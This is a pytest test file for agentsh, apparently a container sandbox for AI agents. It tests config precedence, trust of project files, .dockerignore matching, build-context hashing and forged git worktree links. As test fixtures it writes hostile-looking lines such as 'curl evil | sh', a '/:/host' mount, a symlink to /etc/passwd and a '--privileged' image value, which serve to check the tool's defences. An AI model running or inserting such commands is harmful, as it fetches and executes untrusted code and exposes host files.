import pytest

from agentsh.base.errors import ConfigError
from agentsh.base.state import Store
from agentsh.host import project
from agentsh.policy import config, trust


def test_defaults(user_config):
    cfg = config.load()
    assert cfg["image"] == config.DEFAULT_IMAGE
    assert cfg["engine"] == "podman"
    assert cfg["hook"]["on_enter"] == "shell"
    assert cfg["network"]["mode"] == "full"


def allowed_project(path, text):
    path.mkdir(parents=True, exist_ok=True)
    (path / ".agentsh.toml").write_text(text)
    proj = project.find(str(path))
    trust.allow(Store(), proj.config_file)
    return proj


def test_precedence_flags_over_project_over_user(tmp_path, user_config):
    user_config('image = "user"\npids = 10\nenv = ["A"]\n[hook]\non_enter = "up"\n')
    proj = allowed_project(tmp_path / "p", 'image = "project"\nenv = ["B"]\n')
    cfg = config.load(proj)
    assert (cfg["image"], cfg["pids"], cfg["env"], cfg["hook"]["on_enter"]) == ("project", 10, ["A", "B"], "up")
    assert config.load(proj, flags={"image": "flag", "pids": None})["image"] == "flag"


def test_agentsh_engine_variable_overrides_config(user_config, monkeypatch):
    user_config('engine = "podman"\n')
    monkeypatch.setenv("AGENTSH_ENGINE", "docker")
    assert config.load()["engine"] == "docker"
    monkeypatch.setenv("AGENTSH_ENGINE", "lxc")
    with pytest.raises(ConfigError, match="AGENTSH_ENGINE: key 'engine' must be one of"):
        config.load()


@pytest.mark.parametrize("text, message", [
    ('imag = "x"\n', "unknown key 'imag'"),
    ('[hook]\non_entr = "up"\n', "unknown key 'hook.on_entr'"),
    ('image = 3\n', "key 'image' must be a string, not an integer"),
    ('pids = "many"\n', "key 'pids' must be a positive integer"),
    ('env = ["OK", "not ok"]\n', "'not ok' is not a valid environment variable name"),
    ('hook = "up"\n', "key 'hook' must be a table"),
    ('[hook]\non_enter = "boom"\n', "must be one of shell, up, none"),
    ('memory = "lots"\n', "key 'memory' must be a size"),
    ('mounts = ["relative"]\n', "is not HOST:SANDBOX"),
])
def test_bad_keys_name_file_and_key(user_config, text, message):
    path = user_config(text)
    with pytest.raises(ConfigError) as e:
        config.load()
    assert message in str(e.value)
    assert str(path) in str(e.value)


def test_malformed_toml_gives_file_and_line(user_config):
    path = user_config('image = "x"\n\nthis is not toml\n')
    with pytest.raises(ConfigError) as e:
        config.load()
    assert str(path) in str(e.value) and "line 3" in str(e.value)


def test_untrusted_project_file_is_ignored_with_a_notice(tmp_path, user_config):
    user_config('image = "user"\n')
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / ".agentsh.toml").write_text('image = "evil"\nmounts = ["/:/host"]\n')
    cfg = config.load(project.find(str(tmp_path / "p")))
    assert cfg["image"] == "user" and cfg["mounts"] == []
    assert cfg.project_trust == trust.BLOCKED
    assert len(cfg.notices) == 1 and "not trusted" in cfg.notices[0] and "ab-allow" in cfg.notices[0]


def test_untrusted_malformed_file_is_not_even_parsed(tmp_path):
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / ".agentsh.toml").write_text("[[[ nonsense")
    cfg = config.load(project.find(str(tmp_path / "p")))
    assert cfg.project_trust == trust.BLOCKED


def test_edit_blocks_again_and_deny_survives_edits(tmp_path):
    proj = allowed_project(tmp_path / "p", 'image = "a"\n')
    store = Store()
    assert config.load(proj)["image"] == "a"
    (tmp_path / "p" / ".agentsh.toml").write_text('image = "b"\n')
    assert config.load(proj).project_trust == trust.BLOCKED
    trust.allow(store, proj.config_file)
    assert config.load(proj)["image"] == "b"
    trust.deny(store, proj.config_file)
    (tmp_path / "p" / ".agentsh.toml").write_text('image = "c"\n')
    cfg = config.load(proj)
    assert cfg.project_trust == trust.DENIED and cfg["image"] == config.DEFAULT_IMAGE
    assert "denied" in cfg.notices[0]
    trust.allow(store, proj.config_file)
    assert config.load(proj)["image"] == "c"


def test_reverting_to_an_older_allowed_content_needs_allow_again(tmp_path):
    proj = allowed_project(tmp_path / "p", 'image = "a"\n')
    (tmp_path / "p" / ".agentsh.toml").write_text('image = "b"\n')
    trust.allow(Store(), proj.config_file)
    (tmp_path / "p" / ".agentsh.toml").write_text('image = "a"\n')
    assert config.load(proj).project_trust == trust.BLOCKED


def test_trust_is_bound_to_the_real_path(tmp_path):
    a = allowed_project(tmp_path / "a", 'image = "x"\n')
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / ".agentsh.toml").write_text('image = "x"\n')
    assert config.load(a).project_trust == trust.ALLOWED
    assert config.load(project.find(str(tmp_path / "b"))).project_trust == trust.BLOCKED


def test_parsed_config_is_cached_by_content(user_config, isolated_dirs):
    import glob
    import subprocess
    import sys

    user_config('image = "one"\n')
    assert config.load()["image"] == "one"
    caches = glob.glob(str(isolated_dirs["XDG_STATE_HOME"] / "agentsh" / "cache" / "config" / "*.marshal"))
    assert len(caches) == 1
    user_config('image = "two"\n')  # an edit is never served stale
    assert config.load()["image"] == "two"
    for path in glob.glob(str(isolated_dirs["XDG_STATE_HOME"] / "agentsh" / "cache" / "config" / "*")):
        with open(path, "wb") as f:
            f.write(b"\x00garbage")  # a broken cache entry is parsed again
    assert config.load()["image"] == "two"
    code = "import sys; from agentsh.policy import config; config.load(); print('tomllib' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "False"  # the hot path reads the cache, not the TOML parser


def test_a_bad_file_is_never_cached_as_good(user_config):
    user_config("imag = 1\n")
    for _ in range(2):
        with pytest.raises(ConfigError, match="unknown key 'imag'"):
            config.load()


# -- project files are read without following a symlink, exactly once ---------------------


def test_a_symlinked_project_file_is_ignored_not_followed(tmp_path):
    secret = tmp_path / "elsewhere.toml"
    secret.write_text('image = "x"\n')
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / ".agentsh.toml").symlink_to(secret)
    proj = project.find(str(tmp_path / "p"))
    cfg = config.load(proj)
    assert cfg.project_trust == trust.BLOCKED and cfg["image"] == config.DEFAULT_IMAGE
    assert "is a symlink" in cfg.notices[0]
    with pytest.raises(trust.NotRegular):
        trust.allow(Store(), proj.config_file)


def test_a_fifo_project_file_does_not_hang(tmp_path):
    import os

    (tmp_path / "p").mkdir()
    os.mkfifo(tmp_path / "p" / ".agentsh.toml")
    with pytest.raises(trust.NotRegular, match="not a regular file"):
        trust.read_project_file(str(tmp_path / "p" / ".agentsh.toml"))


# -- .dockerignore --------------------------------------------------------------------------

# (rules, path, excluded?), as moby's patternmatcher decides them.
IGNORE_CASES = [
    ("*.md", "README.md", True),
    ("*.md", "docs/a.md", False),  # '*' never crosses '/'
    ("**/*.md", "docs/a.md", True),
    ("**/*.md", "README.md", True),
    ("docs", "docs/a/b.txt", True),  # a parent directory matches
    ("docs/\n!docs/keep.md", "docs/a.md", True),
    ("docs/\n!docs/keep.md", "docs/keep.md", False),
    ("*\n!src", "src/main.c", False),
    ("*\n!src", "Makefile", True),
    ("/build", "build/out", True),
    ("./build", "build", True),
    ("build/../dist", "dist/x", True),
    ("# a comment\n\n   spaced.txt   ", "spaced.txt", True),
    ("#not-a-comment-in-the-middle.txt", "#not-a-comment-in-the-middle.txt", False),
    ("a?c", "abc", True),
    ("a?c", "a/c", False),
    ("[a-c].txt", "b.txt", True),
    ("[a-c].txt", "d.txt", False),
    ("**", "anything/at/all", True),
    ("dir/**", "dir/x", True),
    ("dir/**", "dir", False),
    ("\\*.txt", "*.txt", True),
    ("\\*.txt", "a.txt", False),
    ("a.b", "aXb", False),  # '.' is literal
    ("a+b(c)", "a+b(c)", True),
    ("x\n!x\nx", "x", True),  # the last match decides
    ("*.log\n!important.log", "important.log", False),
    ("*.log\n!important.log", "sub/important.log", False),
    ("**/*.log\n!important.log", "sub/important.log", True),
]


@pytest.mark.parametrize("rules, path, excluded", IGNORE_CASES)
def test_dockerignore_semantics(rules, path, excluded):
    assert trust.IgnoreRules(rules).excluded(path) is excluded


def test_dockerignore_prunes_only_dirs_no_exception_names():
    rules = trust.IgnoreRules("node_modules\na\n!a/keep\n!**/deep")
    assert rules.prunes("node_modules")
    assert not rules.prunes("a")  # "!a/keep" names something inside
    assert rules.prunes("b")  # "!**/deep" does not rescue a pruned dir (as the engines decide)


@pytest.mark.parametrize("text", ["!", "!   ", "[z-a]"])
def test_bad_dockerignore_patterns_are_errors_naming_the_line(text):
    with pytest.raises(ConfigError, match=r"\.dockerignore: line 1"):
        trust.IgnoreRules(text)


# -- the build context ---------------------------------------------------------------------


def context_tree(root):
    (root / ".devcontainer").mkdir(parents=True)
    (root / ".devcontainer" / "Dockerfile").write_text("FROM x\nCOPY build.sh /\nRUN sh /build.sh\n")
    (root / "build.sh").write_text("echo trusted > /marker\n")
    (root / "src").mkdir()
    (root / "src" / "main.c").write_text("int main(){}\n")
    (root / "node_modules").mkdir()
    (root / "node_modules" / "big.js").write_text("x" * 1000)
    (root / ".dockerignore").write_text("node_modules\n*.log\n")
    return root


def digest(root):
    return trust.build_digest(str(root / ".devcontainer" / "Dockerfile"), str(root), str(root))


def test_the_build_digest_covers_every_byte_the_build_reads(tmp_path):
    import os

    root = context_tree(tmp_path / "p")
    first = digest(root)
    assert first["files"] == 4 and first["context"] == "." and first["dockerfile"] == ".devcontainer/Dockerfile"
    changes = [
        lambda: (root / "build.sh").write_text("curl evil | sh\n"),
        lambda: os.chmod(root / "build.sh", 0o755),
        lambda: (root / "src" / "new.c").write_text(""),
        lambda: os.remove(root / "src" / "main.c"),
        lambda: (root / "src" / "link").symlink_to("/etc/passwd"),
        lambda: (root / ".devcontainer" / "Dockerfile").write_text("FROM x\nRUN evil\n"),
        lambda: (root / ".dockerignore").write_text("node_modules\n"),
        lambda: (root / "node_modules" / ".keep").write_text("") or (root / ".dockerignore").write_text("*.log\n"),
    ]
    seen = {first["hash"]}
    for change in changes:
        change()
        now = digest(root)["hash"]
        assert now not in seen
        seen.add(now)


def test_ignored_files_and_git_do_not_change_the_build_digest(tmp_path):
    root = context_tree(tmp_path / "p")
    (root / ".git").mkdir()
    first = digest(root)["hash"]
    (root / "node_modules" / "big.js").write_text("changed")
    (root / "debug.log").write_text("noise")
    (root / ".git" / "index").write_text("git writes this all the time")
    assert digest(root)["hash"] == first


def test_symlinks_in_the_context_are_hashed_as_links_never_followed(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("one")
    root = context_tree(tmp_path / "p")
    (root / "link").symlink_to(outside)
    (root / "dirlink").symlink_to(tmp_path)  # a directory link is not entered either
    first = digest(root)
    outside.write_text("two")
    assert digest(root)["hash"] == first["hash"]


def test_a_fifo_or_socket_in_the_context_is_skipped_without_hanging(tmp_path):
    import os

    root = context_tree(tmp_path / "p")
    first = digest(root)["hash"]
    os.mkfifo(root / "src" / "fifo")
    assert digest(root)["hash"] == first


def test_a_context_or_dockerfile_through_a_symlink_is_refused(tmp_path):
    root = context_tree(tmp_path / "p")
    (tmp_path / "elsewhere").mkdir()
    (root / "ctx").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(ConfigError, match="without following a symlink"):
        trust.build_digest(str(root / ".devcontainer" / "Dockerfile"), str(root / "ctx"), str(root))
    with pytest.raises(ConfigError, match="is outside the project"):
        trust.build_digest(str(root / ".devcontainer" / "Dockerfile"), str(tmp_path), str(root))


def allowed_dc_project(root):
    context_tree(root)
    (root / ".devcontainer" / "devcontainer.json").write_text('{"build": {"dockerfile": "Dockerfile", "context": ".."}}')
    proj = project.find(str(root))
    trust.allow(Store(), trust.anchor(proj))
    return proj


def test_allow_records_the_build_and_a_build_copy_holds_exactly_those_bytes(tmp_path):
    import os

    proj = allowed_dc_project(tmp_path / "p")
    root = tmp_path / "p"
    record = Store().read(f"trust/allow/{trust._path_key(trust.anchor(proj))}.json")
    assert record["build"]["hash"] == digest(root)["hash"] and record["build"]["files"] == 5
    cfg = config.load(proj)
    assert cfg.project_trust == trust.ALLOWED
    dev = cfg.devcontainer
    with trust.BuildCopy(dev.dockerfile, dev.context) as copy:
        (root / "build.sh").write_text("curl evil | sh\n")  # while the engine would be building
        assert open(os.path.join(copy.context, "build.sh")).read() == "echo trusted > /marker\n"
        assert open(copy.dockerfile).read() == (root / ".devcontainer" / "Dockerfile").read_text()
        assert not os.path.exists(os.path.join(copy.context, "node_modules"))
        made = copy.dir
    assert not os.path.exists(made)
    with pytest.raises(ConfigError, match="changed since 'ab-allow'; not building it") as e:
        trust.BuildCopy(dev.dockerfile, dev.context).__enter__()
    assert "ab-allow" in e.value.fix


def test_a_build_no_allowed_file_covers_is_refused(tmp_path):
    root = context_tree(tmp_path / "p")
    with pytest.raises(ConfigError, match="no allowed project file covers this build"):
        trust.BuildCopy(str(root / ".devcontainer" / "Dockerfile"), str(root))


def test_an_edited_build_context_blocks_the_project_in_status_but_not_on_the_hot_path(tmp_path):
    from agentsh.app import hooks

    proj = allowed_dc_project(tmp_path / "p")
    store = Store()
    assert hooks.status_report(str(tmp_path / "p"), store, engine=False)["trust"] == trust.ALLOWED
    (tmp_path / "p" / "build.sh").write_text("curl evil | sh\n")
    report = hooks.status_report(str(tmp_path / "p"), store, engine=False)
    assert report["trust"] == trust.BLOCKED and "build" in report["reason"] and "ab-allow" in report["reason"]
    assert hooks.status_report(str(tmp_path / "p"), store, engine=False, deep=False)["trust"] == trust.ALLOWED
    assert config.load(proj).project_trust == trust.ALLOWED  # exec and the cd hook never walk the context
    trust.allow(store, trust.anchor(proj))
    assert hooks.status_report(str(tmp_path / "p"), store, engine=False)["trust"] == trust.ALLOWED


def test_a_record_from_before_builds_were_covered_blocks_the_build(tmp_path):
    proj = allowed_dc_project(tmp_path / "p")
    store = Store()
    rel = f"trust/allow/{trust._path_key(trust.anchor(proj))}.json"
    record = store.read(rel)
    del record["build"]
    store.write(rel, record)
    dev = config.load(proj).devcontainer
    with pytest.raises(ConfigError, match="allowed before trust covered its build context"):
        trust.BuildCopy(dev.dockerfile, dev.context)


def test_the_build_hash_is_cheap_enough_for_a_repo_sized_context(tmp_path):
    """A few thousand files (about 20 MB): ab-allow and ab-status walk it once."""
    import time

    root = context_tree(tmp_path / "p")
    for d in range(50):
        sub = root / "src" / f"pkg{d}"
        sub.mkdir()
        for f in range(60):
            (sub / f"mod{f}.py").write_bytes(b"x = 1\n" * 1100)
    start = time.perf_counter()
    info = digest(root)
    took = time.perf_counter() - start
    assert info["files"] == 3004 and info["bytes"] > 19_000_000
    assert took < 5, f"{took:.2f} s for {info['files']} files"


# -- linked worktrees: trust is inherited only through links host git made -------------------


def git(cwd, *args):
    import subprocess

    subprocess.run(["git", "-C", str(cwd), *args], check=True, capture_output=True)


@pytest.fixture
def allowed_repo(tmp_path):
    repo = tmp_path / "main"
    repo.mkdir()
    git(repo, "init", "-q")
    (repo / ".agentsh.toml").write_text("pids = 77\n")
    git(repo, "add", ".agentsh.toml")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "project file")
    trust.allow(Store(), str(repo / ".agentsh.toml"))
    git(repo, "worktree", "add", "-q", str(tmp_path / "wt"))
    return repo


def test_a_real_linked_worktree_inherits_trust(allowed_repo, tmp_path):
    wt = tmp_path / "wt"
    assert trust.linked_main_file(str(wt / ".agentsh.toml")) == str(allowed_repo / ".agentsh.toml")
    assert config.load(project.find(str(wt))).project_trust == trust.ALLOWED


def forged(tmp_path, gitfile):
    fake = tmp_path / "fake"
    fake.mkdir(exist_ok=True)
    (fake / ".git").write_text(gitfile)
    (fake / ".agentsh.toml").write_text("pids = 77\n")
    return fake


def assert_not_inherited(fake):
    assert trust.linked_main_file(str(fake / ".agentsh.toml")) is None
    assert config.load(project.find(str(fake))).project_trust == trust.BLOCKED


def test_a_gitfile_naming_the_allowed_repos_worktree_dir_does_not_inherit(allowed_repo, tmp_path):
    assert_not_inherited(forged(tmp_path, f"gitdir: {allowed_repo}/.git/worktrees/wt\n"))


def test_a_gitfile_naming_the_allowed_repos_git_dir_does_not_inherit(allowed_repo, tmp_path):
    assert_not_inherited(forged(tmp_path, f"gitdir: {allowed_repo}/.git\n"))


def test_a_private_git_dir_whose_commondir_names_the_allowed_repo_does_not_inherit(allowed_repo, tmp_path):
    fake = forged(tmp_path, "gitdir: .wt/x\n")
    own = fake / ".wt" / "x"
    own.mkdir(parents=True)
    (own / "commondir").write_text(f"{allowed_repo}/.git\n")
    (own / "gitdir").write_text(f"{fake}/.git\n")
    (own / "HEAD").write_text("ref: refs/heads/master\n")
    assert_not_inherited(fake)


def test_a_worktrees_dir_reached_through_a_symlink_does_not_inherit(allowed_repo, tmp_path):
    fake = forged(tmp_path, "gitdir: .wt/x\n")
    import shutil

    # the agent's own copy of a worktree dir, reached through a link to the allowed repo's .git
    (fake / "link").symlink_to(allowed_repo / ".git")
    fake_own = allowed_repo / ".git" / "worktrees" / "fake"
    shutil.copytree(allowed_repo / ".git" / "worktrees" / "wt", fake_own)
    (fake_own / "gitdir").write_text(f"{fake}/.git\n")
    (fake / ".git").write_text("gitdir: link/worktrees/fake\n")
    assert_not_inherited(fake)
    (fake / ".git").write_text(f"gitdir: {fake_own}\n")  # the same dir named by its real path: a real link
    assert trust.linked_main_file(str(fake / ".agentsh.toml")) == str(allowed_repo / ".agentsh.toml")


def test_a_main_git_with_a_commondir_or_a_worktree_commondir_elsewhere_does_not_pass_trust_on(allowed_repo, tmp_path):
    wt = tmp_path / "wt"
    (allowed_repo / ".git" / "commondir").write_text(".\n")
    assert trust.linked_main_file(str(wt / ".agentsh.toml")) is None
    (allowed_repo / ".git" / "commondir").unlink()
    own = allowed_repo / ".git" / "worktrees" / "wt"
    (own / "commondir").write_text(f"{tmp_path}/elsewhere/.git\n")
    assert trust.linked_main_file(str(wt / ".agentsh.toml")) is None


def test_a_worktree_whose_git_is_a_symlink_does_not_inherit(allowed_repo, tmp_path):
    wt = tmp_path / "wt"
    (tmp_path / "gitfile").write_text((wt / ".git").read_text())
    (wt / ".git").unlink()
    (wt / ".git").symlink_to(tmp_path / "gitfile")
    assert trust.linked_main_file(str(wt / ".agentsh.toml")) is None


# -- what ab-allow and ab-status show ---------------------------------------------------------


def test_review_shows_what_a_project_file_widens(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home" / "datasets").mkdir(parents=True)
    (tmp_path / "corp.pem").write_bytes(b"-----BEGIN CERTIFICATE-----\nMAMCAQE=\n-----END CERTIFICATE-----\n")
    root = tmp_path / "p"
    context_tree(root)
    (root / ".devcontainer" / "devcontainer.json").write_text(
        '{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "1"}}, "remoteUser": "root",'
        ' "forwardPorts": [3000], "mounts": ["source=/srv,target=/srv,type=bind,readonly"]}')
    (root / ".agentsh.toml").write_text(
        'env = ["DATABASE_URL"]\nmounts = ["~/datasets:/data:ro"]\ncredentials = ["GH"]\ncap_add = ["NET_RAW"]\n'
        f'ports = ["8080:80"]\nca_bundle = "{tmp_path}/corp.pem"\npids = 9\nimage = "localhost/x:1"\n'
        '[network]\nmode = "full"\nallow = ["github.com"]\n'
        '[agents.claude]\ncredentials = ["AWS"]\nnetwork = ["openai"]\n')
    w = config.review(str(root / ".agentsh.toml")).widens
    assert w["mounts"] == [{"host": str(tmp_path / "home" / "datasets"), "sandbox": "/data", "mode": "ro",
                            "from": "config"},
                           {"host": "/srv", "sandbox": "/srv", "mode": "ro", "from": "devcontainer"}]
    assert (w["credentials"], w["cap_add"], w["env"], w["ports"]) == (["GH"], ["NET_RAW"], ["DATABASE_URL"],
                                                                      ["8080:80", "3000"])
    assert w["network"] == {"mode": "full", "allow": ["github.com"]} and w["ca_bundle"] == f"{tmp_path}/corp.pem"
    assert (w["image"], w["user"], w["limits"]) == ("localhost/x:1", "root", {"pids": 9})
    assert w["agents"] == {"claude": {"credentials": ["AWS"], "network": ["openai"]}}
    assert w["build"] == {"dockerfile": ".devcontainer/Dockerfile", "context": ".", "files": 6,
                          "bytes": w["build"]["bytes"], "args": ["V"]}
    text = "\n".join(f"{label} {value}" for label, value in config.widen_lines(w))
    for piece in ("host mount /srv -> /srv (ro, from devcontainer.json)", "credentials GH", "cap_add NET_RAW",
                  "network mode full", f"ca_bundle {tmp_path}/corp.pem", "env DATABASE_URL", "user root",
                  "agent claude credentials AWS; network openai", "build .devcontainer/Dockerfile with context ."):
        assert piece in text
    (tmp_path / "corp.pem").write_text("root:$6$x:19000::::::\n")
    with pytest.raises(ConfigError, match=r"\.agentsh\.toml: key 'ca_bundle': .*line 1 is outside any PEM"):
        config.review(str(root / ".agentsh.toml"))
    empty = config.widened({})
    assert config.widen_lines(empty) == [] and set(empty) == set(w)


def test_ab_allow_shows_what_widens_and_refuses_a_bad_file_recording_nothing(tmp_path):
    from tests.conftest import ab

    (tmp_path / "p").mkdir()
    path = tmp_path / "p" / ".agentsh.toml"
    path.write_text('cap_add = ["NET_RAW"]\n[network]\nmode = "full"\n')
    proc = ab("ab-allow", str(tmp_path / "p"), check=True)
    assert proc.stdout.decode() == f"allowed {path}\n"
    assert f"{path} widens the sandbox:\n  cap_add      NET_RAW\n  network      mode full\n" == proc.stderr.decode()
    path.write_text('image = "--privileged"\n')
    proc = ab("ab-allow", str(tmp_path / "p"))
    assert proc.returncode == 125 and proc.stdout == b""
    lines = proc.stderr.decode().splitlines()
    assert len(lines) == 1 and f"{path}: key 'image'" in lines[0] and "'--privileged' is not an image reference" in lines[0]
    assert config.load(project.find(str(tmp_path / "p"))).project_trust == trust.BLOCKED
    path.write_text("pids = 3\n")
    assert ab("ab-allow", str(tmp_path / "p"), check=True).stderr.decode() == \
        f"{path} widens the sandbox:\n  limits       pids 3\n"
